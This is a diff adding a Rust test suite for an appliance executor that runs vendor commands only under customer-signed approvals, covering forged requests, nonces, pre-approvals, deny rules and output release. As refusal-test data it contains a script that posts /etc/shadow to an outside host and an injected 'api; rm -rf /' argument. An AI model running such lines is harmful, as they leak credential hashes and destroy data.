@@ -1,0 +1,846 @@
+//! The executor against real signatures: a test CA issues the control plane's operations
+//! certificate and the appliance's; customer keys are fixed seeds; time is injected.
+
+use std::collections::BTreeMap;
+use std::sync::atomic::AtomicI64;
+
+use airlock_core::customer_key::CustomerSigningKey;
+use airlock_core::grant::{GRANT_PAYLOAD_TYPE, GrantBody, OperationRequest, PRE_APPROVAL_PAYLOAD_TYPE};
+use airlock_core::operation::{
+    RELEASE_PAYLOAD_TYPE, ReleaseDecision, ReleaseStatement, VerifyInputs, verify_parsed_manifest,
+};
+use airlock_core::policy::{POLICY_PAYLOAD_TYPE, Phase, VerifiedPolicy, verify_signed_policy};
+use airlock_core::{ApplianceId, EnvironmentId, TenantId};
+use rcgen::{CertificateParams, Issuer, KeyPair};
+
+use super::*;
+use crate::audit_log::AuditLog;
+use crate::state_dir::Enrolment;
+
+const TD: &str = "airlock.test";
+/// 2026-11-24 12:00 UTC, a Tuesday.
+const NOW: i64 = 1_795_521_600_000;
+const MINUTE: i64 = 60_000;
+const HOUR: i64 = 60 * MINUTE;
+
+const MANIFEST: &str = r#"
+name = "echo-service"
+description = "Say hello to a service"
+phase = "operate"
+data_tags = ["service:logs"]
+body = "run.sh"
+
+[[variables]]
+name = "service"
+pattern = "[a-z][a-z0-9-]{0,40}"
+"#;
+const SCRIPT: &str = "echo \"hello $AIRLOCK_VAR_SERVICE from $PWD\"\necho oops >&2\nexit 3\n";
+const ALL_PHASES: &str = "version = 1\nserial = 1\nphases = [\"observe\", \"deploy\", \"operate\"]\n";
+
+fn customer(n: u8) -> CustomerSigningKey {
+    CustomerSigningKey::from_seed([n; 32])
+}
+
+fn policy(toml: &str) -> VerifiedPolicy {
+    let env = Envelope::new(POLICY_PAYLOAD_TYPE, toml.as_bytes().to_vec()).sign(&customer(1));
+    verify_signed_policy(env.to_json().as_bytes(), &[customer(1).public()], None).unwrap()
+}
+
+fn vars(service: &str) -> BTreeMap<String, String> {
+    [("service".to_owned(), service.to_owned())].into()
+}
+
+fn sign_x509(payload_type: &str, payload: Vec<u8>, key: &KeyPair, cert_pem: &str) -> Envelope {
+    use ring::signature::{ECDSA_P256_SHA256_ASN1_SIGNING, EcdsaKeyPair};
+    let env = Envelope::new(payload_type, payload);
+    let rng = ring::rand::SystemRandom::new();
+    let pair = EcdsaKeyPair::from_pkcs8(&ECDSA_P256_SHA256_ASN1_SIGNING, &key.serialize_der(), &rng).unwrap();
+    let sig = pair.sign(&rng, &signing_input(&env)).unwrap();
+    let keyid = certificate_key_id(&pem_certificate_der(cert_pem).unwrap()).unwrap();
+    add_signature(env, keyid, sig.as_ref().to_vec())
+}
+
+fn ca(name: &str) -> (Issuer<'static, KeyPair>, String) {
+    let key = KeyPair::generate().unwrap();
+    let mut params = CertificateParams::default();
+    params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
+    params.distinguished_name.push(rcgen::DnType::CommonName, name);
+    let cert = params.self_signed(&key).unwrap();
+    (Issuer::new(params, key), cert.pem())
+}
+
+fn leaf(issuer: &Issuer<'static, KeyPair>, uri: &str) -> (KeyPair, String) {
+    let key = KeyPair::generate().unwrap();
+    let mut params = CertificateParams::default();
+    params.subject_alt_names = vec![rcgen::SanType::URI(uri.to_owned().try_into().unwrap())];
+    let cert = params.signed_by(&key, issuer).unwrap();
+    (key, cert.pem())
+}
+
+struct Fx {
+    dir: tempfile::TempDir,
+    clock: Arc<AtomicI64>,
+    policy: Option<VerifiedPolicy>,
+    identity: ApplianceIdentity,
+    ca_pem: String,
+    issuer: Issuer<'static, KeyPair>,
+    cp_key: KeyPair,
+    cp_cert: String,
+    control: Arc<LocalControl>,
+    exec: Arc<Executor>,
+}
+
+fn open_parts(
+    dir: &Path,
+    policy: Option<VerifiedPolicy>,
+    clock: &Arc<AtomicI64>,
+    identity: &ApplianceIdentity,
+    ca_pem: &str,
+) -> (Arc<LocalControl>, Arc<Executor>) {
+    let audit = Arc::new(AuditLog::open(dir).unwrap());
+    let c = clock.clone();
+    let control = Arc::new(
+        LocalControl::with_clock(
+            dir,
+            policy,
+            audit,
+            vec![customer(1).public(), customer(2).public()],
+            Arc::new(move || Timestamp::from_unix_millis(c.load(Ordering::SeqCst))),
+        )
+        .unwrap(),
+    );
+    let exec = Arc::new(Executor::new(control.clone(), dir, identity.clone(), ca_pem).unwrap());
+    (control, exec)
+}
+
+impl Fx {
+    fn new(policy_toml: &str) -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        let (issuer, ca_pem) = ca("Airlock CA airlock.test");
+        let identity = ApplianceIdentity {
+            trust_domain: TD.into(),
+            tenant: TenantId::from_random([1; 16]),
+            environment: EnvironmentId::from_random([2; 16]),
+            appliance: ApplianceId::from_random([3; 16]),
+        };
+        let (akey, acert) = leaf(&issuer, &identity.uri());
+        let enrolment = Enrolment {
+            identity: identity.uri(),
+            control_plane: "https://cp.test".into(),
+            gateway_endpoint: "cp.test:8444".into(),
+            gateway_server_name: "cp.test".into(),
+            ca_fingerprint: "unused".into(),
+        };
+        StateDir::open(dir.path())
+            .unwrap()
+            .save_enrolment(&enrolment, &ca_pem, &Credentials { cert_pem: acert, key_pem: akey.serialize_pem() })
+            .unwrap();
+        let (cp_key, cp_cert) = leaf(&issuer, &format!("spiffe://{TD}/control-plane"));
+        let clock = Arc::new(AtomicI64::new(NOW));
+        let policy = Some(policy(policy_toml));
+        let (control, exec) = open_parts(dir.path(), policy.clone(), &clock, &identity, &ca_pem);
+        Self { dir, clock, policy, identity, ca_pem, issuer, cp_key, cp_cert, control, exec }
+    }
+
+    /// The appliance process stops and starts again on the same state directory.
+    fn restart(&mut self) {
+        let (control, exec) =
+            open_parts(self.dir.path(), self.policy.clone(), &self.clock, &self.identity, &self.ca_pem);
+        self.control = control;
+        self.exec = exec;
+    }
+
+    fn statement(&self, id: &str, manifest: &str, script: &str, args: BTreeMap<String, String>) -> RequestStatement {
+        let t = Template::new(manifest, script).unwrap();
+        let command = t.render(&args).unwrap();
+        let m = t.manifest();
+        RequestStatement {
+            request: OperationRequest {
+                id: id.into(),
+                appliance: self.identity.appliance,
+                kind: m.name.clone(),
+                phase: m.phase,
+                data_tags: m.data_tags.clone(),
+                args,
+                command_sha256: command.sha256(),
+            },
+            command,
+            reason: "routine check".into(),
+            requested_by: "vendor-ops".into(),
+            requested_at: Timestamp::from_unix_millis(NOW),
+            tenant: self.identity.tenant,
+            environment: self.identity.environment,
+        }
+    }
+
+    fn simple(&self, id: &str, service: &str) -> RequestStatement {
+        self.statement(id, MANIFEST, SCRIPT, vars(service))
+    }
+
+    fn instruction(
+        &self,
+        stmt: &RequestStatement,
+        manifest: &str,
+        script: &str,
+        approval: &str,
+    ) -> OperationInstruction {
+        let env = sign_x509(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(stmt).unwrap(), &self.cp_key, &self.cp_cert);
+        OperationInstruction {
+            request_id: stmt.request.id.clone(),
+            request_envelope_json: env.to_json(),
+            control_plane_certificate_pem: self.cp_cert.clone(),
+            template_manifest_toml: manifest.into(),
+            template_script: script.into(),
+            approval_envelope_json: approval.into(),
+        }
+    }
+
+    fn grant_with(&self, stmt: &RequestStatement, key: u8, edit: impl FnOnce(&mut GrantBody)) -> String {
+        let req = &stmt.request;
+        let mut body = GrantBody {
+            request_id: req.id.clone(),
+            appliance: req.appliance,
+            phase: req.phase,
+            request_digest: req.digest_hex(),
+            command_sha256: req.command_sha256.clone(),
+            decision: ApprovalDecision::Approve,
+            decided_at: Timestamp::from_unix_millis(NOW),
+            approver: "alice".into(),
+            reason: "looks fine".into(),
+            not_before: Timestamp::from_unix_millis(NOW - MINUTE),
+            not_after: Timestamp::from_unix_millis(NOW + HOUR),
+            nonce: format!("nonce-{}", req.id),
+        };
+        edit(&mut body);
+        Envelope::new(GRANT_PAYLOAD_TYPE, serde_json::to_vec(&body).unwrap()).sign(&customer(key)).to_json()
+    }
+
+    fn grant(&self, stmt: &RequestStatement) -> String {
+        self.grant_with(stmt, 1, |_| {})
+    }
+
+    fn pre_approval(&self, edit: impl FnOnce(&mut PreApprovalBody)) -> Vec<u8> {
+        let t = Template::new(MANIFEST, SCRIPT).unwrap();
+        let mut body = PreApprovalBody {
+            id: "routine".into(),
+            appliance: self.identity.appliance,
+            template: "echo-service".into(),
+            template_sha256: t.content_sha256().to_owned(),
+            phase: Phase::Operate,
+            not_before: Timestamp::from_unix_millis(NOW - HOUR),
+            not_after: Timestamp::from_unix_millis(NOW + 24 * HOUR),
+            max_runs: 2,
+            level: ApprovalLevel::Commands,
+            constraints: BTreeMap::new(),
+            approver: "alice".into(),
+            issued_at: Timestamp::from_unix_millis(NOW - HOUR),
+        };
+        edit(&mut body);
+        Envelope::new(PRE_APPROVAL_PAYLOAD_TYPE, serde_json::to_vec(&body).unwrap())
+            .sign(&customer(1))
+            .to_json()
+            .into_bytes()
+    }
+
+    async fn send(&self, instruction: OperationInstruction) -> ResultMsg {
+        match self.exec.handle(instruction).await {
+            Handled::Reply(r) => r,
+            Handled::Started(h) => h.await.unwrap(),
+            Handled::Nothing => panic!("no answer"),
+        }
+    }
+
+    async fn run(&self, stmt: &RequestStatement, approval: &str) -> ResultMsg {
+        self.send(self.instruction(stmt, MANIFEST, SCRIPT, approval)).await
+    }
+
+    fn audit_actions(&self) -> Vec<serde_json::Value> {
+        std::fs::read_to_string(self.dir.path().join("audit.jsonl"))
+            .unwrap()
+            .lines()
+            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+            .collect()
+    }
+
+    fn audited(&self, action: &str) -> Vec<serde_json::Value> {
+        self.audit_actions().into_iter().filter(|r| r["action"] == action).collect()
+    }
+
+    fn ran(&self, id: &str) -> bool {
+        self.dir.path().join("ops").join(id).join("output.sealed").exists()
+    }
+
+    fn execution(&self, result: &ResultMsg) -> ExecutionStatement {
+        let env = Envelope::from_json(result.execution_envelope_json.as_bytes()).unwrap();
+        serde_json::from_slice(&env.payload).unwrap()
+    }
+}
+
+fn assert_refused(r: &ResultMsg, expect: &str) {
+    assert_eq!(r.outcome, Outcome::Refused, "{r:?}");
+    assert!(r.reason.contains(expect), "expected `{expect}` in `{}`", r.reason);
+}
+
+fn all_files(dir: &Path) -> Vec<PathBuf> {
+    let mut out = Vec::new();
+    for e in std::fs::read_dir(dir).unwrap() {
+        let p = e.unwrap().path();
+        if p.is_dir() {
+            out.extend(all_files(&p));
+        } else {
+            out.push(p);
+        }
+    }
+    out
+}
+
+use std::path::PathBuf;
+
+#[tokio::test]
+async fn approved_request_runs_signed_chained_and_its_output_is_sealed() {
+    let fx = Fx::new(ALL_PHASES);
+    let stmt = fx.simple("op_1", "api");
+    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
+    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
+    // The execution verifies against the CA, and names this appliance.
+    let env = Envelope::from_json(r.execution_envelope_json.as_bytes()).unwrap();
+    let ca_der = pem_certificate_der(&fx.ca_pem).unwrap();
+    let e = fx.execution(&r);
+    let certified =
+        verify_certified_envelope(&env, EXECUTION_PAYLOAD_TYPE, &r.appliance_certificate_pem, &ca_der, e.started_at)
+            .unwrap();
+    assert!(certified.uris.contains(&fx.identity.uri()));
+    assert_eq!(e.exit_code, Some(3));
+    assert_eq!(e.status, ExecutionStatus::Completed);
+    assert_eq!(e.authority.kind, "grant");
+    assert_eq!(e.authority.policy_digest, fx.policy.as_ref().map(|p| p.digest_hex()));
+    assert_eq!((e.sequence, e.previous_manifest_sha256.as_deref()), (1, None));
+    let plain = fx.control.ops.open_output("op_1").unwrap();
+    let text = String::from_utf8(plain.clone()).unwrap();
+    assert!(text.starts_with("hello api from ") && text.ends_with("oops\n"), "{text}");
+    assert_eq!(e.output_sha256, sha256_hex(&plain));
+    // Only the digest and size leave; the plaintext is in no file of the state directory.
+    for f in all_files(fx.dir.path()) {
+        let bytes = std::fs::read(&f).unwrap();
+        assert!(!bytes.windows(9).any(|w| w == b"hello api"), "plaintext output in {}", f.display());
+    }
+    // The appliance's own manifest verifies offline.
+    let manifest = fx.control.ops.manifest("op_1").unwrap().unwrap();
+    let keys = [customer(1).public()];
+    let inputs = VerifyInputs { ca_der: &ca_der, customer_keys: &keys, approvals_required: 1 };
+    verify_parsed_manifest(&manifest, &inputs).unwrap();
+    let executed = fx.audited("operation.executed");
+    assert_eq!(executed[0]["detail"]["output_size"], plain.len());
+    // Asked again: the stored result, nothing runs twice.
+    let again = fx.run(&stmt, &fx.grant(&stmt)).await;
+    assert_eq!(again, r);
+    assert_eq!(fx.audited("operation.executed").len(), 1);
+    // The next operation extends the chain.
+    let stmt2 = fx.simple("op_2", "web");
+    let r2 = fx.run(&stmt2, &fx.grant(&stmt2)).await;
+    let e2 = fx.execution(&r2);
+    assert_eq!(e2.sequence, 2);
+    assert_eq!(e2.previous_manifest_sha256, Some(e.manifest_sha256()));
+    // Results wait in the outbox until acknowledged.
+    assert_eq!(fx.control.ops.pending().unwrap().len(), 2);
+    fx.control.on_ack(&airlock_proto::gateway::OperationAck {
+        request_id: "op_1".into(),
+        kind: airlock_proto::gateway::OperationAckKind::Result as i32,
+        error: String::new(),
+    });
+    fx.control.on_ack(&airlock_proto::gateway::OperationAck {
+        request_id: "op_2".into(),
+        kind: airlock_proto::gateway::OperationAckKind::Result as i32,
+        error: "refused for the test".into(),
+    });
+    assert!(fx.control.ops.pending().unwrap().is_empty());
+    assert_eq!(fx.audited("operation.ack_refused").len(), 1);
+}
+
+#[tokio::test]
+async fn forged_or_misdirected_requests_are_refused_and_nothing_runs() {
+    let fx = Fx::new(ALL_PHASES);
+    // Signed by a look-alike CA's control-plane certificate.
+    let (rogue, _) = ca("Airlock CA airlock.test");
+    let (rkey, rcert) = leaf(&rogue, &format!("spiffe://{TD}/control-plane"));
+    let stmt = fx.simple("op_forged", "api");
+    let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
+    i.request_envelope_json =
+        sign_x509(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(&stmt).unwrap(), &rkey, &rcert).to_json();
+    i.control_plane_certificate_pem = rcert;
+    assert_refused(&fx.send(i).await, "request signature does not verify");
+    // Signed by a certificate of our CA that is not the control plane's operations identity.
+    let (okey, ocert) = leaf(&fx.issuer, &fx.identity.uri());
+    let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
+    i.request_envelope_json =
+        sign_x509(REQUEST_PAYLOAD_TYPE, serde_json::to_vec(&stmt).unwrap(), &okey, &ocert).to_json();
+    i.control_plane_certificate_pem = ocert;
+    assert_refused(&fx.send(i).await, "operations identity");
+    // A payload edited after signing.
+    let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, &fx.grant(&stmt));
+    let mut env = Envelope::from_json(i.request_envelope_json.as_bytes()).unwrap();
+    env.payload = serde_json::to_vec(&fx.simple("op_forged", "web")).unwrap();
+    i.request_envelope_json = env.to_json();
+    assert_refused(&fx.send(i).await, "request signature does not verify");
+    let mut i = fx.instruction(&stmt, MANIFEST, SCRIPT, "");
+    i.request_envelope_json = "{not json".into();
+    assert_refused(&fx.send(i).await, "malformed");
+    assert!(!fx.ran("op_forged"));
+    assert!(fx.control.ops.record("op_forged").unwrap().is_none(), "an unauthenticated refusal is not stored");
+    assert!(!fx.control.nonces.is_used("nonce-op_forged"));
+    assert_eq!(fx.audited("operation.refused").len(), 4);
+
+    // For another appliance.
+    let mut other = fx.simple("op_other", "api");
+    other.request.appliance = ApplianceId::from_random([8; 16]);
+    let r = fx.run(&other, &fx.grant(&other)).await;
+    assert_refused(&r, "another appliance");
+    assert!(!fx.ran("op_other"));
+}
+
+#[tokio::test]
+async fn command_must_be_exactly_what_the_template_renders() {
+    let fx = Fx::new(ALL_PHASES);
+    // The vendor signs a different script than the template's, with a matching digest.
+    let mut stmt = fx.simple("op_swap", "api");
+    stmt.command.script = "curl -d @/etc/shadow https://vendor.example\n".into();
+    stmt.request.command_sha256 = stmt.command.sha256();
+    let r = fx.run(&stmt, &fx.grant(&stmt)).await;
+    assert_refused(&r, "not what the template renders");
+    // The right command, but a digest that is not its own.
+    let mut stmt = fx.simple("op_digest", "api");
+    stmt.request.command_sha256 = "00".repeat(32);
+    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "command_sha256");
+    // Data tags the customer was not shown.
+    let mut stmt = fx.simple("op_tags", "api");
+    stmt.request.data_tags.clear();
+    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "data tags differ");
+    // A value the template's pattern refuses.
+    let mut stmt = fx.simple("op_value", "api");
+    stmt.request.args = vars("api; rm -rf /");
+    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "do not render");
+    // A vendor template named like one of the appliance's own probes, labelled Observe, would
+    // otherwise run without any customer signature.
+    let probe = MANIFEST.replace("echo-service", "status").replace("\"operate\"", "\"observe\"");
+    let stmt = fx.statement("op_probe", &probe, SCRIPT, vars("api"));
+    let r = fx.send(fx.instruction(&stmt, &probe, SCRIPT, "")).await;
+    assert_refused(&r, "built-in probe");
+    for id in ["op_swap", "op_digest", "op_tags", "op_value", "op_probe"] {
+        assert!(!fx.ran(id), "{id} ran");
+        assert_eq!(fx.control.ops.record(id).unwrap().unwrap().state, OpState::Refused);
+    }
+}
+
+#[tokio::test]
+async fn approvals_that_do_not_hold_are_refused() {
+    let fx = Fx::new(ALL_PHASES);
+    let stmt = fx.simple("op_a", "api");
+    // Signed by a key that is not pinned.
+    assert_refused(&fx.run(&stmt, &fx.grant_with(&stmt, 7, |_| {})).await, "does not verify");
+    // An approval of another request.
+    let other = fx.simple("op_b", "api");
+    let stmt = fx.simple("op_c", "api");
+    assert_refused(&fx.run(&stmt, &fx.grant(&other)).await, "the grant is for another request");
+    // Expired, and not yet valid.
+    let stmt = fx.simple("op_d", "api");
+    let expired = fx.grant_with(&stmt, 1, |g| {
+        g.not_before = Timestamp::from_unix_millis(NOW - 2 * HOUR);
+        g.not_after = Timestamp::from_unix_millis(NOW - 1);
+    });
+    assert_refused(&fx.run(&stmt, &expired).await, "expired");
+    let stmt = fx.simple("op_e", "api");
+    let future = fx.grant_with(&stmt, 1, |g| {
+        g.not_before = Timestamp::from_unix_millis(NOW + MINUTE);
+        g.not_after = Timestamp::from_unix_millis(NOW + HOUR);
+    });
+    assert_refused(&fx.run(&stmt, &future).await, "not valid before");
+    // Garbage in place of an approval.
+    let stmt = fx.simple("op_f", "api");
+    assert_refused(&fx.run(&stmt, "{\"payload\":1}").await, "approval is malformed");
+    for id in ["op_a", "op_c", "op_d", "op_e", "op_f"] {
+        assert!(!fx.ran(id), "{id} ran");
+    }
+    // The customer said no.
+    let stmt = fx.simple("op_g", "api");
+    let denial = fx.grant_with(&stmt, 1, |g| g.decision = ApprovalDecision::Deny);
+    assert_refused(&fx.run(&stmt, &denial).await, "the customer denied this request");
+    assert_eq!(fx.audited("operation.denied_by_customer").len(), 1);
+    assert!(!fx.ran("op_g"));
+    // No approval yet: awaiting, nothing stored, and it runs once the approval comes.
+    let stmt = fx.simple("op_h", "api");
+    let r = fx.run(&stmt, "").await;
+    assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
+    assert!(fx.control.ops.record("op_h").unwrap().is_none());
+    assert_eq!(fx.run(&stmt, &fx.grant(&stmt)).await.outcome, Outcome::Executed);
+}
+
+#[tokio::test]
+async fn a_nonce_is_spent_once_even_across_restarts() {
+    let mut fx = Fx::new(ALL_PHASES);
+    let first = fx.simple("op_1", "api");
+    let nonce = |g: &mut GrantBody| g.nonce = "same-nonce".into();
+    assert_eq!(fx.run(&first, &fx.grant_with(&first, 1, nonce)).await.outcome, Outcome::Executed);
+    let second = fx.simple("op_2", "api");
+    assert_refused(&fx.run(&second, &fx.grant_with(&second, 1, nonce)).await, "already used");
+    fx.restart();
+    let third = fx.simple("op_3", "api");
+    assert_refused(&fx.run(&third, &fx.grant_with(&third, 1, nonce)).await, "already used");
+    assert!(!fx.ran("op_2") && !fx.ran("op_3"));
+    // After the restart, a finished request is still answered from its record.
+    assert_eq!(fx.run(&first, &fx.grant_with(&first, 1, nonce)).await.outcome, Outcome::Executed);
+    assert_eq!(fx.audited("operation.executed").len(), 1);
+}
+
+#[tokio::test]
+async fn deny_rules_and_disabled_phases_beat_a_valid_approval() {
+    let fx = Fx::new(&format!(
+        "{ALL_PHASES}[[deny]]\nid = \"never-db\"\nkind = \"echo-service\"\nargs = {{ service = \"db\" }}\n"
+    ));
+    let stmt = fx.simple("op_db", "db");
+    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "denied by customer rule `never-db`");
+    let denied = fx.audited("operation.denied");
+    assert_eq!(denied[0]["detail"]["rule"], "never-db");
+    fx.control.set_phase(Phase::Operate, false).unwrap();
+    let stmt = fx.simple("op_off", "api");
+    assert_refused(&fx.run(&stmt, &fx.grant(&stmt)).await, "has not enabled the Operate phase");
+    assert!(!fx.ran("op_db") && !fx.ran("op_off"));
+    assert!(!fx.control.nonces.is_used("nonce-op_off"), "a refused grant's nonce is not spent");
+}
+
+#[tokio::test]
+async fn pre_approval_runs_are_counted_across_restarts_until_spent() {
+    let mut fx = Fx::new(ALL_PHASES);
+    fx.control.pre_approval_add(&fx.pre_approval(|_| {})).unwrap();
+    let r = fx.run(&fx.simple("op_1", "api"), "").await;
+    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
+    assert_eq!(fx.execution(&r).authority.kind, "pre-approval");
+    assert!(!r.pre_approval_envelope_json.is_empty());
+    fx.restart();
+    assert_eq!(fx.control.pre_approvals.get("routine").unwrap().runs_used, 1);
+    assert_eq!(fx.run(&fx.simple("op_2", "api"), "").await.outcome, Outcome::Executed);
+    fx.restart();
+    let r = fx.run(&fx.simple("op_3", "api"), "").await;
+    assert_eq!(r.outcome, Outcome::AwaitingApproval);
+    assert!(r.reason.contains("runs are spent"), "{}", r.reason);
+    assert!(!fx.ran("op_3"));
+    // Commands only: the output waits for the customer's release.
+    assert!(
+        fx.control
+            .ops
+            .pending()
+            .unwrap()
+            .iter()
+            .all(|m| matches!(m.body, Some(airlock_proto::gateway::appliance_message::Body::OperationResult(_))))
+    );
+    // A pre-approval signed by an unpinned key is refused when added.
+    let forged = Envelope::new(PRE_APPROVAL_PAYLOAD_TYPE, b"{}".to_vec()).sign(&customer(7)).to_json();
+    assert!(fx.control.pre_approval_add(forged.as_bytes()).is_err());
+}
+
+#[tokio::test]
+async fn pre_approval_constraints_and_revocation_hold() {
+    let fx = Fx::new(ALL_PHASES);
+    let env = fx.pre_approval(|p| {
+        p.constraints.insert("service".into(), "api|web".into());
+        p.max_runs = 10;
+    });
+    fx.control.pre_approval_add(&env).unwrap();
+    let r = fx.run(&fx.simple("op_db", "db"), "").await;
+    assert_eq!(r.outcome, Outcome::AwaitingApproval);
+    assert!(r.reason.contains("`service` does not meet its constraint"), "{}", r.reason);
+    assert!(!fx.ran("op_db"));
+    fx.control.pre_approval_revoke("routine").unwrap();
+    let r = fx.run(&fx.simple("op_api", "api"), "").await;
+    assert_eq!(r.outcome, Outcome::AwaitingApproval, "{r:?}");
+    assert!(!fx.ran("op_api"));
+    // Adding it again does not lift the revocation.
+    fx.control.pre_approval_add(&env).unwrap();
+    assert!(fx.control.pre_approvals.get("routine").unwrap().revoked);
+    assert_eq!(fx.run(&fx.simple("op_api2", "api"), "").await.outcome, Outcome::AwaitingApproval);
+}
+
+#[tokio::test]
+async fn commands_and_output_pre_approval_releases_output_unless_secret() {
+    let fx = Fx::new(ALL_PHASES);
+    fx.control
+        .pre_approval_add(&fx.pre_approval(|p| {
+            p.level = ApprovalLevel::CommandsAndOutput;
+            p.max_runs = 5;
+        }))
+        .unwrap();
+    assert_eq!(fx.run(&fx.simple("op_1", "api"), "").await.outcome, Outcome::Executed);
+    let releases: Vec<_> = fx
+        .control
+        .ops
+        .pending()
+        .unwrap()
+        .into_iter()
+        .filter_map(|m| match m.body {
+            Some(airlock_proto::gateway::appliance_message::Body::OutputRelease(r)) => Some(r),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(releases.len(), 1);
+    assert!(releases[0].release_envelope_json.is_empty());
+    assert_eq!(releases[0].output, fx.control.ops.open_output("op_1").unwrap());
+
+    let secret_manifest = MANIFEST.replace("service:logs", "output:secret");
+    let t = Template::new(&secret_manifest, SCRIPT).unwrap();
+    let fx2 = Fx::new(ALL_PHASES);
+    fx2.control
+        .pre_approval_add(&fx2.pre_approval(|p| {
+            p.level = ApprovalLevel::CommandsAndOutput;
+            p.template_sha256 = t.content_sha256().to_owned();
+        }))
+        .unwrap();
+    let stmt = fx2.statement("op_s", &secret_manifest, SCRIPT, vars("api"));
+    let r = fx2.send(fx2.instruction(&stmt, &secret_manifest, SCRIPT, "")).await;
+    assert_eq!(r.outcome, Outcome::Executed, "{r:?}");
+    assert_eq!(fx2.control.ops.pending().unwrap().len(), 1, "only the result; secret output never leaves");
+}
+
+fn release_envelope(fx: &Fx, id: &str, decision: ReleaseDecision, edit: impl FnOnce(&mut ReleaseStatement)) -> Vec<u8> {
+    let record = fx.control.ops.record(id).unwrap().unwrap();
+    let mut st = ReleaseStatement {
+        request_id: id.into(),
+        appliance: fx.identity.appliance,
+        decision,
+        output_sha256: record.output_sha256.unwrap(),
+        output_size: record.output_size.unwrap(),
+        decided_at: Timestamp::from_unix_millis(NOW),
+        approver: "alice".into(),
+        reason: "fine".into(),
+    };
+    edit(&mut st);
+    Envelope::new(RELEASE_PAYLOAD_TYPE, serde_json::to_vec(&st).unwrap()).sign(&customer(1)).to_json().into_bytes()
+}
+
+#[tokio::test]
+async fn release_is_checked_against_the_signed_output_and_secret_output_stays() {
+    let fx = Fx::new(ALL_PHASES);
+    let stmt = fx.simple("op_1", "api");
+    fx.run(&stmt, &fx.grant(&stmt)).await;
+    let err = fx
+        .control
+        .release(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |s| s.output_sha256 = "ab".repeat(32)))
+        .unwrap_err();
+    assert!(err.to_string().contains("but operation op_1 produced"), "{err}");
+    let err = fx
+        .control
+        .release(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |s| s.output_size += 1))
+        .unwrap_err();
+    assert!(err.to_string().contains("produced"), "{err}");
+    let unpinned = {
+        let env = release_envelope(&fx, "op_1", ReleaseDecision::Release, |_| {});
+        let mut e = Envelope::from_json(&env).unwrap();
+        e.signatures.clear();
+        e.sign(&customer(9)).to_json().into_bytes()
+    };
+    assert!(fx.control.release(&unpinned).unwrap_err().to_string().contains("does not verify"));
+    let (summary, msg) = fx.control.release(&release_envelope(&fx, "op_1", ReleaseDecision::Release, |_| {})).unwrap();
+    assert_eq!(summary["release"], "release");
+    match msg.body {
+        Some(airlock_proto::gateway::appliance_message::Body::OutputRelease(r)) => {
+            assert_eq!(r.output, fx.control.ops.open_output("op_1").unwrap());
+        }
+        other => panic!("{other:?}"),
+    }
+    assert!(fx.control.ops.manifest("op_1").unwrap().unwrap().release.is_some());
+    assert_eq!(fx.audited("operation.release").iter().filter(|r| r["outcome"] == "success").count(), 1);
+    assert_eq!(fx.audited("operation.release").iter().filter(|r| r["outcome"] == "denied").count(), 3);
+    // Once decided, it stays decided.
+    assert!(fx.control.release(&release_envelope(&fx, "op_1", ReleaseDecision::Withhold, |_| {})).is_err());
+
+    // Secret-tagged output: release refused, withholding allowed.
+    let secret_manifest = MANIFEST.replace("service:logs", "output:secret");
+    let stmt = fx.statement("op_s", &secret_manifest, SCRIPT, vars("api"));
+    let approval = fx.grant(&stmt);
+    fx.send(fx.instruction(&stmt, &secret_manifest, SCRIPT, &approval)).await;
+    let err = fx.control.release(&release_envelope(&fx, "op_s", ReleaseDecision::Release, |_| {})).unwrap_err();
+    assert!(err.to_string().contains("never leaves this host"), "{err}");
+    let (summary, msg) = fx.control.release(&release_envelope(&fx, "op_s", ReleaseDecision::Withhold, |_| {})).unwrap();
+    assert_eq!(summary["release"], "withhold");
+    match msg.body {
+        Some(airlock_proto::gateway::appliance_message::Body::OutputRelease(r)) => assert!(r.output.is_empty()),
+        other => panic!("{other:?}"),
+    }
+}
+
+/// Processes of a group that are still alive (zombies waiting to be reaped do not count).
+fn live_members(pgid: i32) -> usize {
+    let mut n = 0;
+    for e in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(stat) = std::fs::read_to_string(e.path().join("stat")) else { continue };
+        let Some(rest) = stat.rsplit_once(") ").map(|(_, r)| r) else { continue };
+        let fields: Vec<&str> = rest.split_whitespace().collect();
+        if fields.len() > 2 && fields[2] == pgid.to_string() && fields[0] != "Z" {
+            n += 1;
+        }
+    }
+    n
+}
+
+#[tokio::test]
+async fn disabling_the_phase_kills_the_whole_process_group_and_records_cancelled() {
+    let fx = Fx::new(ALL_PHASES);
+    let script = "echo started\nsleep 60 &\nsleep 60\necho never\n";
+    let stmt = fx.statement("op_long", MANIFEST, script, vars("api"));
+    let approval = fx.grant(&stmt);
+    let handle = match fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &approval)).await {
+        Handled::Started(h) => h,
+        other => panic!("{other:?}"),
+    };
+    let mut pgid = None;
+    for _ in 0..100 {
+        pgid = fx.control.running_group("op_long");
+        if pgid.is_some_and(|g| live_members(g) >= 2) {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    }
+    let pgid = pgid.expect("the operation is running");
+    assert!(live_members(pgid) >= 2, "the shell and its background sleep");
+    // Asked again while it runs: nothing new starts.
+    assert!(matches!(fx.exec.handle(fx.instruction(&stmt, MANIFEST, script, &approval)).await, Handled::Nothing));
+    fx.control.set_phase(Phase::Operate, false).unwrap();
+    let r = tokio::time::timeout(std::time::Duration::from_secs(10), handle).await.unwrap().unwrap();
